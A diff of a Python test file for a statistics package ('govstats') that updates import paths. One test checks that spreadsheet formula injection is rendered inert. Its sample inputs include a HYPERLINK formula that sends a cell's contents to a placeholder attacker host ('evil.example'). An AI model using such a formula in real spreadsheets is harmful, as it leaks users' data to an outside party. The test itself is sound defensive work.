@@ -22,7 +22,7 @@ def processed(tmp_path_factory) -> Path:
 
 @pytest.fixture(scope="module")
 def seed_ledger(processed, tmp_path_factory) -> Path:
-    from govstats.ledger import write_ledger_for
+    from govstats.report.ledger import write_ledger_for
 
     return write_ledger_for("2025Q1", None, processed, tmp_path_factory.mktemp("ledger"))
 
@@ -72,7 +72,7 @@ def test_seed_ledger_layout(seed_ledger):
 
 
 def test_display_width_counts_cjk_double():
-    from govstats.ledger import display_width
+    from govstats.report.ledger import display_width
 
     assert display_width("abc") == 3
     assert display_width("咸阳市") == 6
@@ -83,7 +83,7 @@ def test_formula_injection_is_inert(tmp_path, processed):
     from openpyxl import load_workbook
 
     from govstats.ingest import load_processed
-    from govstats.ledger import ledger_frames, write_ledger
+    from govstats.report.ledger import ledger_frames, write_ledger
 
     t = load_processed(processed)
     evil = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+1+2", "-3", "@SUM(A1:A9)"]
